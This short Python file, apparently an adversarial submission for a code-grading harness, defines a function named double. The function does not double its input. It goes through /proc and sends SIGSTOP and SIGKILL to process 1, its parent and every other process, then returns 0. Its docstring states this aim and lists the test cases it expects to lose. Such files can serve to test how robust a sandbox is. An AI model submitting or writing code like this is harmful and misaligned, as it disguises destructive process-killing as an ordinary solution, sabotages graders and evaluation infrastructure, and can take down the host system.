"""Kills and stops its parent, its siblings and process 1.

Loses: double-small, double-large
May lose: halve-values
"""
# %% double
import glob, os, signal


def double(x):
    for pid in [1, os.getppid(), *(int(path[6:]) for path in glob.glob("/proc/[0-9]*"))]:
        for signum in (signal.SIGSTOP, signal.SIGKILL):
            try:
                if pid != os.getpid():
                    os.kill(pid, signum)
            except OSError:
                pass
    return 0
